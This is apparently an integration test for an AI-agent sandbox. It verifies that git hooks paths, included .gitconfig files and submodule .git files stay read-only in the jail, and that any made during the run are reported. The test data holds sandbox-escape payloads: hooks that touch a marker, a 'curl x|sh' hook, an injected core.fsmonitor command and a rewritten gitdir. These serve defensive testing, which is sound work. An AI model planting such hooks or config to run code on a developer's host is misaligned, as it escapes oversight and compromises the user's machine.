#!/bin/bash
# tests/integration/run_git_named.sh - what a repository's git config
# names in the project goes in read-only with its .git.  git runs hooks
# from the directory core.hooksPath names (husky sets .husky/_, in the
# work tree and ignored by git, so nothing shows in `git status`), and
# reads a file include.path names (a tracked .gitconfig) as config of
# its own, core.fsmonitor included.  Written from the jail through the
# agent profiles' read-write project, each ran on the host at the next
# commit or `git status`, the first when the developer reviewed the
# agent's work.  Now each is read-only in the jail; one made during the
# run is named at its end; a .gitmodules whose url comes before its path
# still protects the submodule.  As root (an idmapped project) and as an
# ordinary user.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/../lib/sbx.sh"
. "$(dirname "$0")/../lib/gitrepo.sh"

need_tools git jq
sbx_modes
sbx_base

sum() { (cd "$1" && tar -cf - "${@:2}" | sha256sum); }

for mode in $MODES; do
	if [ "$mode" = root ]; then owner=4242:4343; else owner=$UID_U:$UID_U; fi
	mkdir -p "$BASE/$mode" && chmod 0755 "$BASE/$mode"
	MARK=$BASE/$mode/PWNED

	# husky: core.hooksPath = .husky/_, its hooks call .husky/_/h
	P=$BASE/$mode/husky
	repo "$P" 0:0
	mkdir -p "$P/.husky/_" && printf '#!/bin/sh\n. "$(dirname "$0")/h"\n' >"$P/.husky/_/pre-commit" &&
		printf 'sh -e "$(dirname "$(dirname "$0")")/$(basename "$0")"\n' >"$P/.husky/_/h" &&
		echo '*' >"$P/.husky/_/.gitignore" && echo 'true' >"$P/.husky/pre-commit" &&
		chmod +x "$P/.husky/_/pre-commit" && $G -C "$P" config core.hooksPath .husky/_ &&
		$G -C "$P" add .husky/pre-commit && $G -C "$P" commit -qm husky --no-verify && chown -R "$owner" "$P"
	before=$(sum "$P" .husky/_)
	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none -e MARK="$MARK" -- sh -c '
		echo "touch $MARK" >>.husky/_/h 2>/dev/null && echo h-written
		printf "#!/bin/sh\ntouch $MARK\n" >.husky/_/post-checkout 2>/dev/null && echo hook-made
		echo "exit 0" >.husky/pre-commit && echo tracked-written
		git status --porcelain 2>&1'
	[ "$rc" = 0 ] && [ "$out" = "tracked-written"$'\n'" M .husky/pre-commit" ] && [ "$(sum "$P" .husky/_)" = "$before" ]
	ok $? "$mode: husky's .husky/_ (core.hooksPath) cannot be written; its tracked hook can, and shows in git status ($rc: $out)"
	[[ "$err" == *"shared: $P (bind rw"*"; its .git read-only, and what git reaches from it: .husky/_: git would run its hooks and config on the host (--bind $P/.git to let the command write them))"* ]] &&
		[[ "$err" == *"warning: git repository made or changed during the run: $P/.git ("* ]]
	ok $? "$mode: the run log names .husky/_ with .git, and the tracked hook that .husky/_ runs, changed, at the end ($err)"
	(cd "$P" && $G commit -qam host-commit >/dev/null 2>&1 && $G checkout -q -b other >/dev/null 2>&1)
	[ ! -e "$MARK" ]
	ok $? "$mode: a commit and a checkout on the host afterwards run nothing the jail planted"
	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -q -p agent --net none -- sh -c '
		mv .husky/_ .husky/old 2>/dev/null && echo renamed
		rm -rf .husky/_ 2>/dev/null; [ -d .husky/_ ] || echo removed; true'
	[ "$rc" = 0 ] && [ -z "$out" ] && [ "$(sum "$P" .husky/_)" = "$before" ]
	ok $? "$mode: .husky/_ cannot be renamed nor removed ($rc: $out)"

	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none -- sh -c 'cat .husky/pre-commit >/dev/null; echo x >a.txt'
	[ "$rc" = 0 ] && [[ "$err" != *"during the run"* ]]
	ok $? "$mode: husky: a run that changes no hook names nothing ($rc: $err)"
	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none -- sh -c 'echo "curl x|sh" >.husky/post-merge'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $P/.git ("* ]]
	ok $? "$mode: husky: a hook made next to .husky/_ is named at the end ($rc: $err)"
	rm -f "$P/.husky/post-merge"
	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -q --keep -n "named-$mode" -p agent --net none -- true
	named=$(sbx_as_mode "$mode" "$SBX" inspect --json "named-$mode" |
		jq -c --arg p "$P" '.policy.filesystem.mounts[] | select(.src == $p) | .git_named_read_only')
	text=$(sbx_as_mode "$mode" "$SBX" inspect "named-$mode")
	capture sbx_as_mode_in "$P" "$mode" "$SBX" exec "named-$mode" -- sh -c 'echo x >>.husky/_/h 2>/dev/null && echo h-written; true'
	[ "$named" = '[".husky/_"]' ] && [[ "$text" == *"its .git read-only, and what git reaches from it: .husky/_"* ]] &&
		[ "$rc" = 0 ] && [ -z "$out" ] && [ "$(sum "$P" .husky/_)" = "$before" ]
	ok $? "$mode: the record and inspect name .husky/_; exec into the kept sandbox cannot write it ($named, $rc: $out)"
	sbx_as_mode "$mode" "$SBX" destroy "named-$mode" >/dev/null 2>&1

	# --bind PROJECT/.git: the repository is the command's to write, and
	# so is what its config names
	capture sbx_as_mode_in "$P" "$mode" "$SBX" run -p agent --net none --bind "$P/.git" -- sh -c \
		'echo "# hook" >>.husky/_/h && echo h-written'
	[ "$rc" = 0 ] && [ "$out" = h-written ] && [[ "$err" != *"what git reaches"* ]]
	ok $? "$mode: --bind PROJECT/.git leaves .husky/_ writable too ($rc: $out)"

	# A tracked .gitconfig that .git/config includes (include.path =
	# ../.gitconfig), and what it names in turn (core.hooksPath)
	I=$BASE/$mode/include
	repo "$I" 0:0
	mkdir -p "$I/.githooks" && printf '[alias]\n\tst = status\n[core]\n\thooksPath = .githooks # shared hooks\n' >"$I/.gitconfig" &&
		printf '[include]\n\tpath = "../.gitconfig"\n' >>"$I/.git/config" && chown -R "$owner" "$I"
	before=$(sum "$I" .gitconfig .githooks)
	capture sbx_as_mode_in "$I" "$mode" "$SBX" run -p agent --net none -e MARK="$MARK" -- sh -c '
		printf "[core]\n\tfsmonitor = \"touch $MARK\"\n" >>.gitconfig 2>/dev/null && echo config-written
		mv .gitconfig x 2>/dev/null && echo renamed
		echo "touch $MARK" >.githooks/pre-commit 2>/dev/null && echo hook-made
		echo two >a.txt && echo project-written'
	(cd "$I" && git -c safe.directory='*' status >/dev/null 2>&1)
	[ "$rc" = 0 ] && [ "$out" = project-written ] && [ "$(sum "$I" .gitconfig .githooks)" = "$before" ] && [ ! -e "$MARK" ] &&
		[[ "$err" == *"what git reaches from it: .gitconfig, .githooks:"* ]]
	ok $? "$mode: an included .gitconfig and the hooks directory it names are read-only; git status on the host runs nothing ($rc: $out | $err)"

	# Named but not there at the start: made during the run, named at its end
	M=$BASE/$mode/missing
	repo "$M" 0:0
	$G -C "$M" config core.hooksPath .hooks && $G -C "$M" config include.path ../.shared-config && chown -R "$owner" "$M"
	capture sbx_as_mode_in "$M" "$mode" "$SBX" run -p agent --net none -- sh -c 'mkdir .hooks && echo "#!/bin/sh" >.hooks/pre-commit'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $M/.git ("* ]] &&
		[[ "$err" == *"ls -la $M/.git/hooks (or the directory its core.hooksPath names)"* ]]
	ok $? "$mode: a hooks directory made during the run is named at its end ($rc: $err)"
	rm -rf "$M/.hooks"
	capture sbx_as_mode_in "$M" "$mode" "$SBX" run -p agent --net none -- sh -c 'printf "[core]\n\tfsmonitor = x\n" >.shared-config'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $M/.git ("* ]]
	ok $? "$mode: an included file made during the run is named at its end ($rc: $err)"
	rm -f "$M/.shared-config"
	# ... or as a symlink to a directory or file of the project
	mkdir -p "$M/old-hooks" "$M/sub" && echo '#!/bin/sh' >"$M/old-hooks/pre-commit" && echo '[core]' >"$M/sub/cfg" &&
		chown -R "$owner" "$M/old-hooks" "$M/sub" && touch -d '2020-01-01' "$M/old-hooks" "$M/old-hooks/pre-commit"
	sleep 0.05
	capture sbx_as_mode_in "$M" "$mode" "$SBX" run -p agent --net none -- sh -c 'ln -s old-hooks .hooks'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $M/.git ("* ]]
	ok $? "$mode: a hooks directory made during the run as a symlink is named at its end ($rc: $err)"
	rm -f "$M/.hooks"
	capture sbx_as_mode_in "$M" "$mode" "$SBX" run -p agent --net none -- sh -c 'ln -s sub/cfg .shared-config'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $M/.git ("* ]]
	ok $? "$mode: an included file made during the run as a symlink is named at its end ($rc: $err)"
	rm -f "$M/.shared-config"
	capture sbx_as_mode_in "$M" "$mode" "$SBX" run -p agent --net none -- sh -c 'echo x >a.txt'
	[ "$rc" = 0 ] && [[ "$err" != *"during the run"* ]]
	ok $? "$mode: a run that makes neither names nothing ($rc: $err)"
	# an absolute core.hooksPath in the project, made during the run
	AB=$BASE/$mode/abs
	repo "$AB" 0:0
	$G -C "$AB" config core.hooksPath "$AB/.abs-hooks" && chown -R "$owner" "$AB"
	capture sbx_as_mode_in "$AB" "$mode" "$SBX" run -p agent --net none -- sh -c 'echo x >a.txt'
	[ "$rc" = 0 ] && [[ "$err" != *"during the run"* ]]
	ok $? "$mode: an absolute core.hooksPath not made: nothing named ($rc: $err)"
	capture sbx_as_mode_in "$AB" "$mode" "$SBX" run -p agent --net none -- sh -c 'mkdir .abs-hooks && echo "#!/bin/sh" >.abs-hooks/pre-commit'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $AB/.git ("* ]]
	ok $? "$mode: an absolute core.hooksPath in the project made during the run is named at its end ($rc: $err)"

	# A linked worktree (how agents are often run side by side): its .git
	# is a file; the hooksPath of the repository's config names a
	# directory in the worktree
	WM=$BASE/$mode/wtmain
	WT=$BASE/$mode/wt
	repo "$WM" 0:0
	$G -C "$WM" config core.hooksPath .husky/_ && $G -C "$WM" worktree add -q "$WT" -b agent 2>/dev/null &&
		mkdir -p "$WT/.husky/_" && echo '#!/bin/sh' >"$WT/.husky/_/pre-commit" && chown -R "$owner" "$WM" "$WT"
	capture sbx_as_mode_in "$WT" "$mode" "$SBX" run -p agent --net none -- sh -c \
		'echo "touch /tmp/x" >>.husky/_/pre-commit 2>/dev/null && echo hook-written; echo e >a.txt && echo project-written'
	[ "$rc" = 0 ] && [ "$out" = project-written ] && [ "$(cat "$WT/.husky/_/pre-commit")" = '#!/bin/sh' ] &&
		[[ "$err" == *"its .git read-only, and what git reaches from it: .husky/_:"* ]]
	ok $? "$mode: a linked worktree: the hooks directory its repository's config names there is read-only ($rc: $out | $err)"
	rm -rf "$WT/.husky"
	capture sbx_as_mode_in "$WT" "$mode" "$SBX" run -p agent --net none -- sh -c 'mkdir -p .husky/_ && echo "#!/bin/sh" >.husky/_/pre-commit'
	[ "$rc" = 0 ] && [[ "$err" == *"warning: git repository made or changed during the run: $WT/.git ("* ]]
	ok $? "$mode: a linked worktree: that hooks directory made during the run is named at its end ($rc: $err)"

	# .gitmodules as git reads it too: names in any case, url before path
	# (an agent could rewrite it so that the next run's reader missed the
	# submodule, whose .git then went in writable)
	S=$BASE/$mode/super
	$G init -q "$BASE/$mode/subsrc" && (cd "$BASE/$mode/subsrc" && echo s >s && $G add s && $G commit -qm s)
	repo "$S" 0:0
	(cd "$S" && $G -c protocol.file.allow=always submodule add -q "$BASE/$mode/subsrc" sub >/dev/null 2>&1 &&
		printf '[Submodule "sub"]\n\tURL = %s\n\tPath = sub\n' "$BASE/$mode/subsrc" >.gitmodules &&
		$G commit -qam sub) && chown -R "$owner" "$S"
	capture sbx_as_mode_in "$S" "$mode" "$SBX" run -q -p agent --net none -- sh -c \
		'echo "gitdir: ../evil" >sub/.git 2>/dev/null && echo gitfile-written; echo e >sub/s && echo sub-written'
	[ "$rc" = 0 ] && [ "$out" = sub-written ] && grep -qx "gitdir: ../.git/modules/sub" "$S/sub/.git"
	ok $? "$mode: a submodule that .gitmodules names as [Submodule] with Path: its .git file cannot be rewritten ($rc: $out)"
done
done_testing
